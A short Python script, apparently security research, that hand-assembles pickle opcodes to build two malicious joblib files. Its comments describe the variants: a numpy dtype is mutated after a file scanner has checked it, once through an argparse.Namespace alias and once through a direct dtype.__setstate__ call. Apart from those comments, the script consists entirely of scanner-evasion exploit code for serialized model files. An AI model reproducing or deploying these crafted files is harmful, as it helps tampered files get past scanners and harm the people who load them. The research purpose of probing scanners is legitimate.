# Variants of e1 (a dtype W mutated after the scanner has read it, through an alias the scanner
# takes for another object):
#  e1c: numpy.dtype(NS) with NS = argparse.Namespace() given the attribute dtype=W by a BUILD:
#       numpy returns NS.dtype, i.e. W itself; BUILD on it makes W V1 -> V2.
#  e1d: no alias: protocol 4 STACK_GLOBAL numpy / dtype.__setstate__ (a method of numpy's dtype)
#       called with (W, state): a call given W, which is not a container.
import sys
from common import *
def BINPUT(i): return b'q'+bytes([i])
def BINGET(i): return b'h'+bytes([i])
def SU(s): b=s.encode(); return b'\x8c'+bytes([len(b)])+b
def dstate(elsize, flags): return b'(K\x03'+U('|')+b'NNN'+I(elsize)+I(1 if elsize>=0 else -1)+I(flags)+b't'
def wrapper_on_memo1():
    return G('joblib.numpy_pickle','NumpyArrayWrapper') + b'(' + G('numpy','ndarray') + I(30) + b'\x85' + U('C') + BINGET(1) + b'\x89NtR}b'
h = b'\x80\x02' + dtype('V1') + BINPUT(1) + b'0'
h += G('numpy','dtype') + G('argparse','Namespace') + b')R}' + U('dtype') + BINGET(1) + b'sb\x85R' + dstate(2, 0) + b'b0'
h += wrapper_on_memo1()
run('e1c_dtype_alias_attr.joblib', h + region(60, [0, 30]))
h = b'\x80\x04' + dtype('V1') + BINPUT(1) + b'0'
h += SU('numpy') + SU('dtype.__setstate__') + b'\x93(' + BINGET(1) + dstate(2, 0) + b'tR0'
h += wrapper_on_memo1()
run('e1d_dtype_setstate_call.joblib', h + region(60, [0, 30]))
